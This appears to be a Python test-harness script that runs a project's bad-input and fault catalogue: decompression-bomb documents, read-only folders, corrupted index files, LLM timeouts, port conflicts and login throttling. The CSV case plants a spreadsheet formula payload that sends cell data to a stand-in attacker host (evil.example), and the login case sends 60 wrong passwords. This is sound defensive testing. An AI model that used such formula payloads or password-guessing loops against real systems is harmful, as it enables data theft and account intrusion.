"""The bad-input and fault catalogue of issue 17, run against a checkout: what a user sees in each case.

Every case runs the checkout's own code in a fresh process (``--src``, by
default this one) on copies of the bundled corpus and index in a temporary
folder: the real command line (as an unprivileged user for the permission
cases, since root ignores permissions), the real web server for the login
cases, the scripted OpenAI-compatible server of the tests for the LLM cases.
For each it prints the exit code, the first line the user saw (a traceback is
reported as its last line) and what was left behind.  Run it on an older
checkout to get the "before" column:

    python eval/fault_catalogue.py                       # this checkout
    python eval/fault_catalogue.py --src /tmp/before     # another one (e.g. `git archive <commit> | tar -x -C /tmp/before`)
    python eval/fault_catalogue.py --only csv,login      # some cases
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
TESTS = ROOT / "tests"
sys.path.insert(0, str(ROOT / "eval"))


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Case:
    def __init__(self, src: Path, work: Path) -> None:
        self.src, self.work = src, work
        self.env = dict(os.environ, HF_HUB_OFFLINE="1", PYTHONPATH=str(src), PYTHONUNBUFFERED="1",
                        ASSISTANT_DATA_DIR=str(work / "data"), HOME=str(work), XDG_DATA_HOME=str(work / "xdg"))
        self.env.pop("ASSISTANT_USERS", None)
        self.corpus, self.index = work / "corpus", work / "index"
        shutil.copytree(ROOT / "corpus", self.corpus)
        shutil.copytree(ROOT / "index", self.index)
        for p in [work, *work.rglob("*")]:
            os.chmod(p, 0o755 if p.is_dir() else 0o644)

    def dirs(self) -> list[str]:
        return ["--corpus-dir", str(self.corpus), "--index-dir", str(self.index)]

    def cli(self, *args: str, nobody: bool = False, timeout: float = 900, input: str | None = None):
        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if nobody and os.geteuid() == 0 else []
        return subprocess.run([*prefix, sys.executable, "-m", "assistant.cli", *args], capture_output=True, text=True,
                              env=self.env, cwd=self.work, timeout=timeout, input=input)

    def python(self, code: str, *args: str, timeout: float = 600):
        return subprocess.run([sys.executable, "-c", code, str(self.src), str(TESTS), *args], capture_output=True,
                              text=True, env=self.env, cwd=self.work, timeout=timeout)

    def state(self) -> dict:
        return {str(p.relative_to(self.work)): p.read_bytes() for d in (self.corpus, self.index) for p in d.rglob("*")
                if p.is_file()}

    def one_case(self) -> Path:
        """A corpus of one short script, indexed (the permission cases embed it with the real model)."""
        shutil.rmtree(self.corpus)
        shutil.rmtree(self.index)
        self.corpus.mkdir()
        text = (ROOT / "corpus" / "songjiang_yixian_daoshi_2025-10_jianggao.txt").read_text("utf-8").splitlines()
        start = next(i for i, line in enumerate(text) if line.startswith("党建引领圆梦换梯"))
        end = next(i for i in range(start, len(text)) if "指导老师" in text[i])
        (self.corpus / "base.txt").write_text("\n".join(text[start : end + 1]), encoding="utf-8")
        r = self.cli("index", "build", *self.dirs())
        assert r.returncode == 0, r.stderr
        for p in [self.work, *self.work.rglob("*")]:
            os.chmod(p, 0o755 if p.is_dir() else 0o644)
        return self.corpus


def seen(r) -> str:
    """The first line a user reads on stderr (a traceback: its last line)."""
    err = [line for line in r.stderr.strip().splitlines() if line.strip() and not line.startswith(("需要向量化", "向量化段落", "正在加载索引"))]
    if any(line.startswith("Traceback") for line in err):
        return "Traceback … " + err[-1]
    return err[0] if err else (r.stdout.strip().splitlines() or [""])[0]


def row(r, left: str = "") -> dict:
    return {"exit": r.returncode, "shown": seen(r)[:160], "left": left}


def new_doc(work: Path) -> Path:
    doc = work / "新讲稿.txt"
    doc.write_text("---\ntitle: 楼道堆物整治三步法\nauthor: 李梅\ncommunity: 秀南居民区\n---\n一、问题\n"
                   + "楼道里堆满了纸箱和旧家具，消防通道被堵，居民多次投诉却屡清屡堆。" * 3
                   + "\n二、做法\n" + "先由楼组长上门沟通，再组织志愿者集中清理，最后在楼道放置绿植形成长效管理。" * 3 + "\n",
                   encoding="utf-8")
    os.chmod(doc, 0o644)
    return doc


def changed(before: dict, after: dict) -> str:
    added = sorted(set(after) - set(before))
    gone = sorted(set(before) - set(after))
    edited = sorted(k for k in set(before) & set(after) if before[k] != after[k])
    parts = [f"+{a}" for a in added if a.startswith("corpus")] + [f"-{g}" for g in gone] + [f"~{e}" for e in edited]
    new_versions = [a for a in added if a.startswith("index")]
    if new_versions:
        parts.append(f"{len(new_versions)} new index files")
    return ", ".join(parts) or "nothing"


# ---------------------------------------------------------------------------
# the cases


def case_bomb(c: Case) -> dict:
    from bench_bomb import make_bomb

    c.one_case()
    bomb = make_bomb(c.work / "bomb.docx")
    before = c.state()
    err_path = c.work / "err.txt"
    t0 = time.perf_counter()
    with open(err_path, "wb") as err:
        proc = subprocess.Popen([sys.executable, "-m", "assistant.cli", "add", str(bomb), *c.dirs()],
                                stdout=subprocess.DEVNULL, stderr=err, env=c.env, cwd=c.work)
        deadline = time.monotonic() + 300
        while proc.poll() is None and time.monotonic() < deadline:
            if re.search(r"\d+/\d+ \[", err_path.read_text("utf-8", "replace")):
                break  # embedding has started: interrupt it as a user would (Ctrl+C)
            time.sleep(0.2)
        if proc.poll() is None:
            proc.send_signal(signal.SIGINT)
        proc.wait(timeout=120)
    seconds = time.perf_counter() - t0
    text = err_path.read_text("utf-8", "replace")
    total = re.findall(r"\d+/(\d+) \[", text)
    r = subprocess.CompletedProcess([], proc.returncode, "", text)
    out = row(r, changed(before, c.state()))
    out["shown"] = (f"began embedding {int(total[-1]):,} passages; Ctrl+C after {seconds:.0f} s: " if total else
                    f"after {seconds:.1f} s: ") + seen(r)[:120]
    return out


def case_csv(c: Case) -> dict:
    db = c.work / "feedback.db"
    code = ("import sys; sys.path.insert(0, sys.argv[1]); from assistant.feedback import FeedbackStore;"
            "FeedbackStore(sys.argv[3]).record('停车难怎么办？', '……', [], 'extractive', '👎',"
            " '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")')")
    assert c.python(code, str(db)).returncode == 0
    out = c.work / "feedback.csv"
    r = c.cli("feedback", "export", "--out", str(out), "--db", str(db))
    import csv

    with open(out, encoding="utf-8-sig", newline="") as fh:
        cells = [cell for line in csv.reader(fh) for cell in line]
    formulas = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return {"exit": r.returncode, "shown": f"{len(formulas)} cell(s) a spreadsheet runs: {formulas[:1]}", "left": ""}


def case_build_readonly_index(c: Case) -> dict:
    c.one_case()
    before = c.state()
    r = c.cli("index", "build", *c.dirs(), nobody=True)
    return row(r, changed(before, c.state()))


def case_add_readonly_corpus(c: Case) -> dict:
    c.one_case()
    index_owner = c.index
    os.chown(index_owner, 65534, 65534)  # the index is writable for the user, the corpus is not
    for p in index_owner.rglob("*"):
        os.chown(p, 65534, 65534)
    before = c.state()
    r = c.cli("add", str(new_doc(c.work)), *c.dirs(), nobody=True)
    return row(r, changed(before, c.state()))


def case_add_readonly_index(c: Case) -> dict:
    c.one_case()
    os.chown(c.corpus, 65534, 65534)  # the corpus is writable for the user, the index is not
    before = c.state()
    r = c.cli("add", str(new_doc(c.work)), *c.dirs(), nobody=True)
    return row(r, changed(before, c.state()))


def case_remove_readonly_corpus(c: Case) -> dict:
    os.chown(c.index, 65534, 65534)
    for p in c.index.rglob("*"):
        os.chown(p, 65534, 65534)
    before = c.state()
    r = c.cli("remove", "sj2025-21", *c.dirs(), nobody=True)
    return row(r, changed(before, c.state()))


def case_current_not_utf8(c: Case) -> dict:
    (c.index / "CURRENT").write_bytes(b"\xff\xfe\x00v-\x81\n")
    return row(c.cli("search", "停车难", *c.dirs()))


def case_manifest_type(c: Case) -> dict:
    live = c.index / (c.index / "CURRENT").read_text().strip()
    data = json.loads((live / "manifest.json").read_text("utf-8"))
    data["file_sizes"] = []
    (live / "manifest.json").write_text(json.dumps(data), "utf-8")
    return row(c.cli("ask", "停车难", *c.dirs()))


def case_status_truncated(c: Case) -> dict:
    live = c.index / (c.index / "CURRENT").read_text().strip()
    for name in ("vectors.faiss",):
        data = (live / name).read_bytes()
        (live / name).write_bytes(data[: len(data) // 2])
    r = c.cli("index", "status", *c.dirs())
    shown = next((line for line in r.stdout.splitlines() if "损坏" in line or "状态" in line), seen(r))
    return {"exit": r.returncode, "shown": shown.strip()[:160], "left": ""}


RUNNING_UI = r"""
import sys, logging
sys.path.insert(0, sys.argv[1]); sys.path.insert(0, sys.argv[2])
from pathlib import Path
logging.basicConfig(level=logging.WARNING, stream=sys.stderr, format="LOG %(name)s: %(message)s")
from assistant.config import get_settings
from assistant.retrieval import get_searcher
s = get_settings(corpus_dir=Path(sys.argv[3]), index_dir=Path(sys.argv[4]))
searcher = get_searcher(s)
(Path(sys.argv[4]) / "CURRENT").write_bytes(b"\xff\xfe")
ok = 0
for q in ("停车难怎么办", "加装电梯资金", "垃圾分类积分"):
    try:
        get_searcher(s).search(q, k=3); ok += 1
    except Exception as exc:
        print(f"question failed: {type(exc).__name__}: {exc}"[:150], file=sys.stderr)
print(f"{ok}/3 questions answered after CURRENT was damaged")
"""


def case_running_ui(c: Case) -> dict:
    r = c.python(RUNNING_UI, str(c.corpus), str(c.index))
    log = next((line for line in r.stderr.splitlines() if line.startswith(("LOG", "question failed"))), "")
    return {"exit": r.returncode, "shown": (r.stdout.strip().splitlines() or [""])[-1] + (f"; {log[:110]}" if log else ""),
            "left": ""}


def case_rebuild_without_current(c: Case) -> dict:
    (c.index / "CURRENT").unlink()
    t0 = time.perf_counter()
    r = c.cli("index", "build", *c.dirs())
    m = re.search(r"新向量化 (\d+)", r.stdout)
    return {"exit": r.returncode, "shown": f"{m.group(1) if m else '?'} passages embedded again, {time.perf_counter() - t0:.0f} s",
            "left": ""}


UI_ERROR = r"""
import sys, logging
sys.path.insert(0, sys.argv[1]); sys.path.insert(0, sys.argv[2])
from pathlib import Path
logging.basicConfig(level=logging.WARNING, stream=sys.stderr)
import assistant.similar as similar
def find(self, text, k=3):
    raise RuntimeError("boom")
similar.SimilarFinder.find = find
from assistant.config import get_settings
from assistant.feedback import FeedbackStore
from assistant.ui import handlers as H
backend = H.Backend(get_settings(corpus_dir=Path(sys.argv[3]), index_dir=Path(sys.argv[4])), FeedbackStore(Path(sys.argv[4]).parent / "f.db"))
print(H.find_similar(backend, "老人把凳子搬到楼道里", 3).html[:60])
"""


def case_ui_error_log(c: Case) -> dict:
    r = c.python(UI_ERROR, str(c.corpus), str(c.index))
    has = "Traceback" in r.stderr and "RuntimeError: boom" in r.stderr
    return {"exit": r.returncode, "shown": "log: traceback with RuntimeError: boom" if has else
            "log: " + " | ".join(r.stderr.strip().splitlines()[-2:])[:150], "left": ""}


LOGIN_UI = r"""
import sys, time
sys.path.insert(0, sys.argv[1]); sys.path.insert(0, sys.argv[2])
from pathlib import Path
import httpx
from assistant.auth import add_user, load_users, make_auth
from assistant.config import get_settings
from assistant.ui import build_app, launch
from ui_server import free_port
users, _ = load_users(add_user("wangli", "正确的密码123", Path(sys.argv[4]).parent / "users.txt"))
app = build_app(get_settings(corpus_dir=Path(sys.argv[3]), index_dir=Path(sys.argv[4])))
port = free_port()
launch(app, "127.0.0.1", port, make_auth(users), block=False, quiet=True)
url = f"http://127.0.0.1:{port}"
try:
    page = httpx.get(url + "/", timeout=30).text
    ids = sorted(set(__import__("re").findall(r"sj2025-\d\d", page)))
    print(f"login page: {len(ids)} case ids, named_endpoints {'present' if 'named_endpoints' in page else 'absent'}")
    codes = {}
    t0 = time.perf_counter()
    for n in range(60):
        code = httpx.post(url + "/login", data={"username": "wangli", "password": f"wrong{n}"}, timeout=30).status_code
        codes[code] = codes.get(code, 0) + 1
    print(f"60 wrong passwords in {time.perf_counter() - t0:.1f} s: " + ", ".join(f"{v}× HTTP {k}" for k, v in sorted(codes.items())))
finally:
    app.close()
"""


def _login(c: Case) -> list[str]:
    if not hasattr(c, "_login_lines"):
        r = c.python(LOGIN_UI, str(c.corpus), str(c.index))
        lines = [line for line in r.stdout.strip().splitlines() if line.startswith(("login page", "60 wrong"))]
        c._login_lines = lines or [seen(r)]  # type: ignore[attr-defined]
    return c._login_lines  # type: ignore[attr-defined]


def case_login_page(c: Case) -> dict:
    return {"exit": 0, "shown": _login(c)[0], "left": ""}


def case_login_throttle(c: Case) -> dict:
    lines = _login(c)
    return {"exit": 0, "shown": lines[-1], "left": ""}


LLM = r"""
import sys
sys.path.insert(0, sys.argv[1]); sys.path.insert(0, sys.argv[2])
from fake_openai import FakeOpenAI, Slow, Cut
import os, subprocess
with FakeOpenAI() as server:
    if sys.argv[3] == "timeout":
        server.script(Slow(30))
        from assistant.config import get_settings
        from assistant.llm import LLMError, complete
        try:
            complete([("user", "hi")], get_settings(llm_base_url=server.base_url, llm_model="fake", llm_timeout=3.93533))
        except LLMError as exc:
            print(exc)
    else:
        server.script(Cut("蓝天二村联合城管拆除了地锁一百四十六把，居民都说好。小区还重新划了车位。" * 2))
        env = dict(os.environ, ASSISTANT_LLM_BASE_URL=server.base_url, ASSISTANT_LLM_MODEL="fake")
        r = subprocess.run([sys.executable, "-m", "assistant.cli", "ask", "老小区里不少人自己装了地锁占着公共车位，怎样才能把这些地锁清掉？",
                            "--corpus-dir", sys.argv[4], "--index-dir", sys.argv[5]], capture_output=True, text=True, env=env)
        head = next((l for l in r.stdout.splitlines() if l.startswith("——")), "(no header)")
        print(f"header above the extractive fallback: {head}")
"""


def case_timeout_notice(c: Case) -> dict:
    r = c.python(LLM, "timeout")
    return {"exit": r.returncode, "shown": r.stdout.strip()[:160] or seen(r), "left": ""}


def case_cut_stream(c: Case) -> dict:
    r = c.python(LLM, "cut", str(c.corpus), str(c.index))
    return {"exit": r.returncode, "shown": r.stdout.strip()[:160] or seen(r), "left": ""}


def case_port_in_use(c: Case) -> dict:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        r = c.cli("serve", "--port", str(port), *c.dirs(), timeout=300)
    said = "已启动" in r.stderr
    return {"exit": r.returncode, "shown": ("printed 已启动, then: " if said else "") + seen(r)[:120], "left": ""}


def case_progress_rate(c: Case) -> dict:
    c.one_case()
    (c.index / "CURRENT").unlink()
    shutil.rmtree(c.index)
    r = c.cli("index", "build", *c.dirs())
    rates = re.findall(r"([\d.]+)段/s", r.stderr)
    return {"exit": r.returncode, "shown": "rates shown: " + ", ".join(f"{float(x):g}段/s" for x in rates[:3]), "left": ""}


CASES = {
    "bomb": ("a 537 KB .docx that inflates to 19 million characters: `assistant add`", case_bomb),
    "csv": ("a comment =HYPERLINK(…) through `assistant feedback export`", case_csv),
    "build-ro-index": ("`index build`, index folder not writable", case_build_readonly_index),
    "add-ro-corpus": ("`add`, corpus folder not writable", case_add_readonly_corpus),
    "add-ro-index": ("`add`, index folder not writable", case_add_readonly_index),
    "remove-ro-corpus": ("`remove`, corpus folder not writable", case_remove_readonly_corpus),
    "current-utf8": ("CURRENT holds bytes that are not UTF-8: `search`", case_current_not_utf8),
    "manifest-type": ('manifest with "file_sizes": []: `ask`', case_manifest_type),
    "status": ("`index status` with vectors.faiss cut in half", case_status_truncated),
    "running-ui": ("a running reader when CURRENT gets damaged", case_running_ui),
    "rebuild": ("`index build` after CURRENT was deleted", case_rebuild_without_current),
    "ui-log": ("an unexpected error in a UI handler: the service log", case_ui_error_log),
    "login-page": ("login on: `GET /` before logging in", case_login_page),
    "login": ("login on: 60 wrong passwords", case_login_throttle),
    "timeout": ("LLM timeout notice (3.93533 s left)", case_timeout_notice),
    "cut": ("LLM stream cut: `assistant ask`", case_cut_stream),
    "port": ("`serve` on a port in use", case_port_in_use),
    "rate": ("progress bar of `index build`", case_progress_rate),
}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--src", default=str(ROOT), help="the checkout whose code runs (default: this one)")
    ap.add_argument("--only", help="comma-separated case names: " + ", ".join(CASES))
    ap.add_argument("--json", help="also write the rows to this file")
    args = ap.parse_args()
    names = args.only.split(",") if args.only else list(CASES)
    results = {}
    for name in names:
        what, run = CASES[name]
        work = Path(tempfile.mkdtemp(prefix=f"catalogue-{name}-"))
        os.chmod(work, 0o755)
        try:
            results[name] = run(Case(Path(args.src).resolve(), work))
        except Exception as exc:  # a case that could not run is reported, not hidden
            results[name] = {"exit": "-", "shown": f"(case failed to run: {type(exc).__name__}: {exc})"[:160], "left": ""}
        finally:
            shutil.rmtree(work, ignore_errors=True)
        r = results[name]
        print(f"| {what} | {r['exit']} | {r['shown']} | {r['left']} |", flush=True)
    if args.json:
        Path(args.json).write_text(json.dumps(results, ensure_ascii=False, indent=1), encoding="utf-8")


if __name__ == "__main__":
    main()
